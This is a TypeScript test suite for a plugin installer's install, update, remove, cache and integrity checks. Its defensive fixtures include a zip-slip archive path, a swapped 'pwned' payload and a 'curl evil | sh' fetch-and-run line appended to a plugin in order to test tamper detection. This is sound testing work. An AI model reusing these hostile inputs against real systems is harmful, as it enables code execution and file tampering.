import assert from "node:assert/strict";
import { access, readdir, readFile, rm, stat } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { cliPluginManifestProblems } from "../../core/finfocus/cli-plugin-manifest.ts";
import { isRunnerError } from "../../runner/errors.ts";
import { loadInstalledPlugins } from "../../runner/install/finfocus-config-fs.ts";
import { layoutFor } from "../../runner/install/layout.ts";
import { readState } from "../../runner/install/state.ts";
import { install } from "../../runner/ops/install.ts";
import { listInstalled } from "../../runner/ops/list.ts";
import { remove } from "../../runner/ops/remove.ts";
import { update } from "../../runner/ops/update.ts";
import { verifyInstalled } from "../../runner/ops/verify-installed.ts";
import { tarGz } from "./helpers/archives.ts";
import { testContext } from "./helpers/context.ts";
import { publish } from "./helpers/registry.ts";
import { type StaticServer, startServer } from "./helpers/server.ts";

let server: StaticServer;
const temps: string[] = [];
before(async () => {
  server = await startServer();
  publish(server, [
    { name: "app", versions: [{ version: "1.0.0", deps: [{ name: "lib", version_constraint: "^1.0.0" }] }] },
    {
      name: "lib",
      versions: [
        { version: "1.0.0", deps: [{ name: "base", version_constraint: ">=1.0.0,<2.0.0" }] },
        { version: "1.1.0", deps: [{ name: "base", version_constraint: ">=1.0.0,<2.0.0" }] },
        { version: "1.2.0", yanked: true },
      ],
    },
    {
      name: "base",
      versions: [{ version: "1.0.0" }, { version: "1.0.1" }, { version: "1.1.0" }, { version: "2.0.0" }],
    },
    {
      name: "evil",
      versions: [{ version: "1.0.0", tamperedArchive: tarGz([{ path: "x", data: "tampered" }]) }],
    },
    { name: "swap", versions: [{ version: "1.0.0" }] },
    { name: "shared", versions: [{ version: "1.0.0" }, { version: "1.1.0" }] },
    {
      name: "hollow",
      versions: [
        {
          version: "1.0.0",
          archive: tarGz([
            { path: "finfocus-plugin-hollow/", type: "Directory" },
            { path: "finfocus-plugin-hollow/run", data: "#!/bin/sh\n", mode: 0o755 },
            { path: "README.md", data: "hollow\n" },
          ]),
        },
      ],
    },
    {
      name: "newer",
      versions: [{ version: "1.0.0", deps: [{ name: "shared", version_constraint: ">=1.1.0" }] }],
    },
    {
      name: "older",
      versions: [{ version: "1.0.0", deps: [{ name: "shared", version_constraint: ">=1.0.0,<1.1.0" }] }],
    },
    {
      name: "wrapped",
      versions: [
        {
          version: "1.0.0",
          archive: tarGz([
            { path: "wrapped-1.0.0/", type: "Directory" },
            { path: "wrapped-1.0.0/finfocus-plugin-wrapped", data: "#!/bin/sh\n", mode: 0o755 },
            { path: "wrapped-1.0.0/LICENSE", data: "Apache-2.0\n" },
          ]),
        },
      ],
    },
    {
      name: "spoof",
      versions: [
        {
          version: "1.0.0",
          archive: tarGz([
            { path: "plugin.manifest.json", data: '{"metadata":{"name":"other"}}' },
            { path: "registry.manifest.json", data: '{"metadata":{"name":"other"}}' },
            { path: "state.json", data: '{"format":1,"plugins":{}}' },
            { path: ".finfocus-registry/state.json", data: "{}" },
            { path: "finfocus-plugin-spoof", data: "#!/bin/sh\n", mode: 0o755 },
          ]),
        },
      ],
    },
    {
      name: "slip",
      versions: [{ version: "1.0.0", archive: tarGz([{ path: "../../../escaped.txt", data: "pwned" }]) }],
    },
    { name: "needy", versions: [{ version: "1.0.0", permissions: ["network_access", "filesystem_write"] }] },
    { name: "wild", versions: [{ version: "1.0.0", security_level: "untrusted" }] },
    {
      name: "conflicted",
      versions: [
        {
          version: "1.0.0",
          deps: [
            { name: "lib", version_constraint: "^1.0.0" },
            { name: "base", version_constraint: ">=2.0.0" },
          ],
        },
      ],
    },
    {
      name: "opt",
      versions: [
        { version: "1.0.0", deps: [{ name: "missing", version_constraint: "^1.0.0", optional: true }] },
      ],
    },
    {
      name: "winonly",
      versions: [
        {
          version: "1.0.0",
          edit: (m) => {
            m.requirements = { system_requirements: { supported_os: ["windows"] } };
          },
        },
      ],
    },
  ]);
});
after(async () => {
  await server.close();
  for (const t of temps) await rm(t, { recursive: true, force: true });
});
async function ctx(options = {}) {
  const c = await testContext(server.url, options);
  temps.push(c.tmp);
  return c;
}
const exists = (p: string) =>
  access(p).then(
    () => true,
    () => false,
  );

test("installs a plugin with its transitive dependencies, reading ≤ 2 metadata documents per plugin", async () => {
  const c = await ctx();
  const result = await install(c, { plugins: [{ name: "app" }] });
  assert.deepEqual(
    result.installed.map((p) => `${p.name}@${p.version}`),
    ["base@1.1.0", "lib@1.1.0", "app@1.0.0"],
    "dependencies first; yanked lib 1.2.0 skipped; base stays below 2.0.0",
  );
  for (const p of result.installed) {
    const dir = join(c.pluginDir, p.name, `v${p.version}`);
    const manifest = JSON.parse(await readFile(join(dir, "registry.manifest.json"), "utf8"));
    assert.equal(manifest.metadata.version, p.version);
    const cli = await readFile(join(dir, "plugin.manifest.json"), "utf8");
    assert.deepEqual(
      cliPluginManifestProblems(cli, p.name, `v${p.version}`),
      [],
      "the FinFocus CLI's format",
    );
    assert.equal((await stat(join(dir, `finfocus-plugin-${p.name}`))).mode & 0o777, 0o755);
  }
  const state = await readState(layoutFor(c.pluginDir));
  assert.equal(state.plugins.app?.explicit, true);
  assert.equal(state.plugins.base?.explicit, false);
  const metadata = c.requests.filter((r) => !r.startsWith("/artifacts/"));
  assert.equal(metadata.filter((r) => r.includes("/.well-known/")).length, 1);
  for (const name of ["app", "lib", "base"]) {
    assert.ok(metadata.filter((r) => r.includes(`/plugins/${name}/`)).length <= 2, `${name}: ${metadata}`);
  }
  // A second run reuses the cache and the installed versions: no downloads at all.
  const again = await install(c, { plugins: [{ name: "app" }] });
  assert.equal(again.installed.length, 0);
  assert.equal(c.requests.filter((r) => r.startsWith("/artifacts/")).length, 3);
});

test("T1: a tampered artifact is refused with CHECKSUM_MISMATCH and nothing is installed", async () => {
  const c = await ctx();
  await assert.rejects(install(c, { plugins: [{ name: "evil" }] }), (e) =>
    isRunnerError(e, "CHECKSUM_MISMATCH"),
  );
  assert.equal(await exists(join(c.pluginDir, "evil")), false);
  assert.deepEqual(await listInstalled(c.pluginDir), []);
});

test("I3: archive entries named like the manifest or the state file are harmless", async () => {
  const c = await ctx();
  await install(c, { plugins: [{ name: "spoof" }] });
  const dir = join(c.pluginDir, "spoof", "v1.0.0");
  const manifest = JSON.parse(await readFile(join(dir, "registry.manifest.json"), "utf8"));
  assert.equal(manifest.metadata.name, "spoof", "the verified manifest replaced the archive's");
  const cli = JSON.parse(await readFile(join(dir, "plugin.manifest.json"), "utf8"));
  assert.deepEqual([cli.name, cli.version], ["spoof", "v1.0.0"], "so did the FinFocus CLI's manifest");
  const state = await readState(layoutFor(c.pluginDir));
  assert.deepEqual(Object.keys(state.plugins), ["spoof"]);
});

test("I4: an oversized download and a lying Content-Length are aborted, nothing left behind", async () => {
  const c = await ctx({ maxDownloadBytes: 100 });
  await assert.rejects(
    install(c, { plugins: [{ name: "base", constraint: "1.0.0" }] }),
    (e) =>
      isRunnerError(e, "DOWNLOAD_FAILED") &&
      e.details.host === new URL(server.url).host &&
      e.message.includes(`downloaded from ${new URL(server.url).host}`),
  );
  // No Content-Length at all (chunked), and far more bytes than the cap: counted, not believed.
  server.handlers.set("/artifacts/lib-1.0.0.tar.gz", (_req, res) => {
    res.writeHead(200, { "transfer-encoding": "chunked" });
    for (let i = 0; i < 64; i++) res.write(Buffer.alloc(4096));
    res.end();
    return true;
  });
  try {
    await assert.rejects(install(c, { plugins: [{ name: "lib", constraint: "1.0.0" }] }), (e) =>
      isRunnerError(e, "DOWNLOAD_FAILED"),
    );
  } finally {
    server.handlers.delete("/artifacts/lib-1.0.0.tar.gz");
  }
  assert.deepEqual(await readdir(c.pluginDir).then((l) => l.filter((n) => !n.startsWith("."))), []);
  assert.deepEqual(await readdir(join(c.pluginDir, ".finfocus-registry", "staging")).catch(() => []), []);
});

test("plain HTTP is refused without allowLoopbackHttp", async () => {
  const c = await ctx({ fetcher: undefined, allowLoopbackHttp: false });
  await assert.rejects(install(c, { plugins: [{ name: "base" }] }), (e) => isRunnerError(e, "INSECURE_URL"));
});

test("PLUGIN_NOT_FOUND names the available versions; a conflict names every demand", async () => {
  const c = await ctx();
  await assert.rejects(install(c, { plugins: [{ name: "base", constraint: "^3.0.0" }] }), (e) => {
    assert.ok(isRunnerError(e, "PLUGIN_NOT_FOUND"));
    assert.deepEqual(e.details.available_versions, ["1.0.0", "1.0.1", "1.1.0", "2.0.0"]);
    return true;
  });
  await assert.rejects(install(c, { plugins: [{ name: "nope" }] }), (e) =>
    isRunnerError(e, "PLUGIN_NOT_FOUND"),
  );
  await assert.rejects(install(c, { plugins: [{ name: "conflicted" }] }), (e) => {
    assert.ok(isRunnerError(e, "DEPENDENCY_CONFLICT"));
    assert.equal((e.details.demands as unknown[]).length, 2);
    return true;
  });
});

test("R4: a yanked version installs only when named exactly, with a warning", async () => {
  const c = await ctx();
  const r = await install(c, { plugins: [{ name: "lib", constraint: "1.2.0" }] });
  assert.equal(r.installed.at(-1)?.version, "1.2.0");
  assert.ok(r.warnings.some((w) => /yanked/.test(w)));
});

test("optional dependencies that cannot be met are skipped with a warning", async () => {
  const c = await ctx();
  const r = await install(c, { plugins: [{ name: "opt" }] });
  assert.deepEqual(
    r.installed.map((p) => p.name),
    ["opt"],
  );
  assert.ok(r.warnings.some((w) => /optional dependency missing/.test(w)));
});

test("system requirements and permissions are enforced", async () => {
  const c = await ctx();
  await assert.rejects(install(c, { plugins: [{ name: "winonly" }] }), (e) =>
    isRunnerError(e, "SYSTEM_REQUIREMENTS_NOT_MET"),
  );
  await assert.rejects(install(c, { plugins: [{ name: "needy" }] }), (e) =>
    isRunnerError(e, "PERMISSIONS_ERROR"),
  );
  const asked: string[][] = [];
  const ok = await ctx({
    approve: async (a: { permissions?: string[] }) => {
      asked.push(a.permissions ?? []);
      return true;
    },
  });
  await install(ok, { plugins: [{ name: "needy" }] });
  assert.deepEqual(asked, [["network_access", "filesystem_write"]]);
  const listed = await ctx({ allowPermissions: ["network_access", "filesystem_write"] });
  await install(listed, { plugins: [{ name: "needy" }] });
});

test("untrusted plugins need approval under the default policy", async () => {
  const c = await ctx();
  await assert.rejects(install(c, { plugins: [{ name: "wild" }] }), (e) =>
    isRunnerError(e, "PERMISSIONS_ERROR"),
  );
  const strict = await ctx({ policy: { min_security_level: "verified" } });
  await assert.rejects(install(strict, { plugins: [{ name: "base" }] }), (e) =>
    isRunnerError(e, "SECURITY_POLICY_VIOLATION"),
  );
  const yes = await ctx({ yes: true });
  await install(yes, { plugins: [{ name: "wild" }] });
});

test("update: patch automatic, minor with confirmation, major only when asked; I9 downgrade refused", async () => {
  const c = await ctx();
  await install(c, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  const declined = await update(c, { names: ["base"] });
  assert.deepEqual(
    declined.map((o) => [o.status, o.updated_version]),
    [["updated", "1.0.1"]],
    "patch applied, minor not confirmed",
  );
  const minor = await update({ ...c, yes: true }, { names: ["base"] });
  assert.equal(minor[0]?.updated_version, "1.1.0");
  const still = await update({ ...c, yes: true }, { names: ["base"] });
  assert.equal(still[0]?.status, "up-to-date", "2.0.0 is a major update: only when asked");
  const major = await update(c, { names: ["base"], allowMajor: true });
  assert.equal(major[0]?.updated_version, "2.0.0");
  assert.deepEqual(await readdir(join(c.pluginDir, "base")), ["v2.0.0"], "the old version folder is gone");
  assert.deepEqual(
    (await loadInstalledPlugins(c.finfocusConfig!)).map((p) => `${p.name}@${p.version}`),
    ["base@v2.0.0"],
    "the FinFocus config's installed_plugins follows updates",
  );
  await assert.rejects(update(c, { names: ["base"], targetVersion: "1.0.0" }), (e) =>
    isRunnerError(e, "DOWNGRADE_REFUSED"),
  );
  assert.equal((await listInstalled(c.pluginDir))[0]?.version, "2.0.0");
  await update(c, { names: ["base"], targetVersion: "1.0.0", allowDowngrade: true });
  assert.equal((await listInstalled(c.pluginDir))[0]?.version, "1.0.0");
});

test("a failed update leaves the previous version installed", async () => {
  const c = await ctx({ yes: true });
  await install(c, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  server.handlers.set("/artifacts/base-1.0.1.tar.gz", (_req, res) => {
    res.writeHead(500).end();
    return true;
  });
  try {
    await assert.rejects(update(c, { names: ["base"], targetVersion: "1.0.1" }), (e) =>
      isRunnerError(e, "DOWNLOAD_FAILED"),
    );
  } finally {
    server.handlers.delete("/artifacts/base-1.0.1.tar.gz");
  }
  assert.deepEqual(await readdir(join(c.pluginDir, "base")), ["v1.0.0"]);
  assert.equal((await listInstalled(c.pluginDir))[0]?.version, "1.0.0");
});

test("remove refuses while a dependent is installed, unless forced", async () => {
  const c = await ctx();
  await install(c, { plugins: [{ name: "app" }] });
  await assert.rejects(remove(c, { name: "lib" }), (e) => isRunnerError(e, "PLUGIN_HAS_DEPENDENTS"));
  const r = await remove(c, { name: "app" });
  assert.equal(r.removed_version, "1.0.0");
  assert.equal(await exists(join(c.pluginDir, "app")), false);
  const forced = await remove(c, { name: "base", force: true, cleanupData: true });
  assert.equal(forced.cleanup_paths.length, 2, "the folder and the config file");
  assert.deepEqual(
    (await listInstalled(c.pluginDir)).map((p) => p.name),
    ["lib"],
  );
  await assert.rejects(remove(c, { name: "app" }), (e) => isRunnerError(e, "NOT_INSTALLED"));
});

test("the registry cache revalidates with ETags and serves --offline", async () => {
  const c = await ctx({ cacheTtlSeconds: 0 });
  await install(c, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  const before = server.total("/api/");
  const c2 = await testContext(server.url, {
    cacheDir: join(c.tmp, "cache"),
    pluginDir: join(c.tmp, "p2"),
    cacheTtlSeconds: 0,
  });
  temps.push(c2.tmp);
  await install(c2, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  assert.ok(server.total("/api/") > before, "stale entries are revalidated");
  const offline = await testContext(server.url, {
    cacheDir: join(c.tmp, "cache"),
    pluginDir: join(c.tmp, "p3"),
    offline: true,
  });
  temps.push(offline.tmp);
  const hits = server.total("/api/");
  await offline.sources[0]!.versions("base");
  assert.equal(server.total("/api/"), hits, "offline: no metadata request");
  await assert.rejects(offline.sources[0]!.versions("app"), (e) => isRunnerError(e, "OFFLINE_CACHE_MISS"));
});

test("verifyInstalled notices a plugin folder changed after install; names are never paths", async () => {
  const c = await ctx();
  await install(c, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  assert.deepEqual(
    (await verifyInstalled(c.pluginDir)).map((v) => v.ok),
    [true],
  );
  const { appendFile, writeFile } = await import("node:fs/promises");
  const dir = join(c.pluginDir, "base", "v1.0.0");
  await appendFile(join(dir, "finfocus-plugin-base"), "\ncurl evil | sh\n");
  await writeFile(join(dir, "extra.so"), "x");
  const [check] = await verifyInstalled(c.pluginDir, ["base"]);
  assert.deepEqual(check?.problems.sort(), ["added: extra.so", "modified: finfocus-plugin-base"]);
  for (const bad of ["../x", "a/b", "..", "UPPER"]) {
    await assert.rejects(remove(c, { name: bad }), (e) => isRunnerError(e, "USAGE"));
    await assert.rejects(install(c, { plugins: [{ name: bad }] }), (e) => isRunnerError(e, "USAGE"));
  }
});

test("verified artifacts are cached by checksum: a reinstall and --offline need no network, a changed cache file is refused", async () => {
  const c = await ctx({ artifactCacheDir: undefined });
  const cached = await testContext(server.url, {
    cacheDir: join(c.tmp, "cache"),
    artifactCacheDir: join(c.tmp, "artifacts"),
  });
  temps.push(cached.tmp);
  await install(cached, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  const offline = await testContext(server.url, {
    cacheDir: join(c.tmp, "cache"),
    artifactCacheDir: join(c.tmp, "artifacts"),
    offline: true,
  });
  temps.push(offline.tmp);
  await install(offline, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  assert.deepEqual(offline.requests, [], "offline: no request at all");
  await assert.rejects(install(offline, { plugins: [{ name: "lib", constraint: "1.0.0" }] }), (e) =>
    isRunnerError(e, "OFFLINE_CACHE_MISS"),
  );
  const { readdir: list, writeFile } = await import("node:fs/promises");
  const [file] = await list(join(c.tmp, "artifacts"));
  await writeFile(join(c.tmp, "artifacts", file!), "swapped in the cache");
  const again = await testContext(server.url, {
    cacheDir: join(c.tmp, "cache"),
    artifactCacheDir: join(c.tmp, "artifacts"),
    offline: true,
  });
  temps.push(again.tmp);
  await assert.rejects(install(again, { plugins: [{ name: "base", constraint: "1.0.0" }] }), (e) =>
    isRunnerError(e, "CHECKSUM_MISMATCH"),
  );
  const online = await testContext(server.url, {
    cacheDir: join(c.tmp, "cache"),
    artifactCacheDir: join(c.tmp, "artifacts"),
  });
  temps.push(online.tmp);
  await install(online, { plugins: [{ name: "base", constraint: "1.0.0" }] });
  assert.deepEqual(
    online.requests,
    ["/artifacts/base-1.0.0.tar.gz"],
    "online, a bad cached copy is fetched again",
  );
});

test("an update that would break an installed dependent is refused with the reason", async () => {
  const c = await ctx();
  await install(c, {
    plugins: [
      { name: "base", constraint: "1.0.0" },
      { name: "lib", constraint: "1.0.0" },
    ],
  });
  await assert.rejects(update(c, { names: ["base"], allowMajor: true }), (e) => {
    assert.ok(isRunnerError(e, "DEPENDENCY_CONFLICT"));
    assert.ok(JSON.stringify(e.details.demands).includes("installed lib@1.0.0"));
    return true;
  });
  assert.equal((await listInstalled(c.pluginDir)).find((p) => p.name === "base")?.version, "1.0.0");
});

test("I9 through dependencies: an install never moves an installed plugin's dependency out of its range, nor back without consent", async () => {
  const c = await ctx();
  await install(c, { plugins: [{ name: "newer" }] });
  const version = async (name: string) =>
    (await listInstalled(c.pluginDir)).find((p) => p.name === name)?.version;
  assert.equal(await version("shared"), "1.1.0");
  // older needs shared < 1.1.0, which installed newer does not accept.
  await assert.rejects(install(c, { plugins: [{ name: "older" }] }), (e) => {
    assert.ok(isRunnerError(e, "DEPENDENCY_CONFLICT"));
    assert.ok(JSON.stringify(e.details).includes("installed newer@1.0.0"));
    return true;
  });
  assert.equal(await version("shared"), "1.1.0");
  assert.equal(await version("older"), undefined);
  await remove(c, { name: "newer" });
  // Nothing installed needs shared 1.1.0 now; moving it back still needs consent.
  await assert.rejects(install(c, { plugins: [{ name: "older" }] }), (e) => {
    assert.ok(isRunnerError(e, "DOWNGRADE_REFUSED"));
    assert.match(e.message, /shared 1\.1\.0 with the older 1\.0\.0.*--allow-downgrade/);
    return true;
  });
  assert.equal(await version("shared"), "1.1.0");
  await install(c, { plugins: [{ name: "older" }], allowDowngrade: true });
  assert.equal(await version("shared"), "1.0.0");
  // Naming the version is consent.
  await remove(c, { name: "older" });
  await install(c, { plugins: [{ name: "shared", constraint: "1.1.0" }] });
  assert.equal(await version("shared"), "1.1.0");
  await install(c, { plugins: [{ name: "shared", constraint: "1.0.0" }] });
  assert.equal(await version("shared"), "1.0.0");
});

test("an archive without an executable finfocus-plugin-<name> at its root installs with a warning that says so", async () => {
  const c = await ctx();
  const r = await install(c, { plugins: [{ name: "hollow" }] });
  assert.ok(
    r.warnings.some((w) => /no executable finfocus-plugin-hollow at its root \(not a regular file\)/.test(w)),
    r.warnings.join("\n"),
  );
  const plain = await install(c, { plugins: [{ name: "base" }] });
  assert.ok(!plain.warnings.some((w) => w.includes("no executable")), plain.warnings.join("\n"));
});

test("I1 through the whole install: a zip-slip archive from the registry is EXTRACTION_FAILED, staging removed", async () => {
  const c = await ctx();
  await assert.rejects(install(c, { plugins: [{ name: "slip" }] }), (e) =>
    isRunnerError(e, "EXTRACTION_FAILED"),
  );
  assert.equal(await exists(join(c.pluginDir, "slip")), false);
  assert.equal(await exists(join(c.tmp, "escaped.txt")), false);
  assert.equal(await exists(join(c.pluginDir, "escaped.txt")), false);
  assert.deepEqual(await readdir(join(c.pluginDir, ".finfocus-registry", "staging")).catch(() => []), []);
  assert.deepEqual(await listInstalled(c.pluginDir), []);
});

test("I6: the bytes extracted are the bytes verified, even when the server swaps the file after the first read", async () => {
  const path = "/artifacts/swap-1.0.0.tar.gz";
  const evil = tarGz([{ path: "finfocus-plugin-swap", data: "#!/bin/sh\necho pwned\n", mode: 0o755 }]);
  server.handlers.set(path, (_req, res) => {
    if ((server.hits.get(path) ?? 0) <= 1) return false; // the first GET gets the real archive
    res.writeHead(200, { "content-length": evil.byteLength });
    res.end(evil);
    return true;
  });
  try {
    const c = await ctx();
    const result = await install(c, { plugins: [{ name: "swap" }] });
    assert.deepEqual(
      result.installed.map((p) => p.name),
      ["swap"],
    );
    assert.equal(server.hits.get(path), 1, "the artifact is downloaded once, then held");
    const executable = await readFile(join(c.pluginDir, "swap", "v1.0.0", "finfocus-plugin-swap"), "utf8");
    assert.equal(executable, "#!/bin/sh\necho swap 1.0.0\n");
  } finally {
    server.handlers.delete(path);
  }
});

test("an archive wrapped in one folder installs with finfocus-plugin-<name> at the version folder's root, and says so", async () => {
  const c = await ctx();
  const r = await install(c, { plugins: [{ name: "wrapped", constraint: "1.0.0" }] });
  const dir = join(c.pluginDir, "wrapped", "v1.0.0");
  assert.equal((await stat(join(dir, "finfocus-plugin-wrapped"))).mode & 0o111, 0o111);
  assert.ok(!(await readdir(dir)).includes("wrapped-1.0.0"), "the wrapping folder is left out");
  assert.ok(
    r.warnings.some((w) => /wraps every file in one folder \("wrapped-1\.0\.0"\/\)/.test(w)),
    r.warnings.join("\n"),
  );
});

test("an endless chain of padded plugin documents is refused once the operation read 256 MiB (RESOLUTION_TOO_LARGE), nothing installed", async () => {
  const chain = await startServer();
  try {
    const links = 12;
    publish(
      chain,
      Array.from({ length: links }, (_, i) => ({
        name: `chain${i}`,
        versions: [
          {
            version: "1.0.0",
            ...(i + 1 < links ? { deps: [{ name: `chain${i + 1}`, version_constraint: "^1.0.0" }] } : {}),
          },
        ],
      })),
    );
    // Each plugin document padded with JSON whitespace to 40 MiB, under the 64 MiB cap of one document.
    const padding = Buffer.alloc(40 * 1024 * 1024, 0x20);
    for (let i = 0; i < links; i++) {
      const path = `/api/v1/plugins/chain${i}/index.json`;
      const doc = chain.files.get(path)!;
      chain.handlers.set(path, (_req, res) => {
        res.writeHead(200, {
          "content-type": "application/json",
          "content-length": doc.byteLength + padding.byteLength,
        });
        res.write(doc);
        res.end(padding);
        return true;
      });
    }
    const c = await testContext(chain.url);
    temps.push(c.tmp);
    await assert.rejects(install(c, { plugins: [{ name: "chain0" }] }), (e) => {
      assert.ok(isRunnerError(e, "RESOLUTION_TOO_LARGE"), String(e));
      return true;
    });
    assert.deepEqual(await listInstalled(c.pluginDir), []);
    // Fewer documents than the chain holds were read: the refusal came part-way.
    assert.ok(chain.total("/api/v1/plugins/chain") < links, String(chain.total("/api/v1/plugins/chain")));
  } finally {
    await chain.close();
  }
});
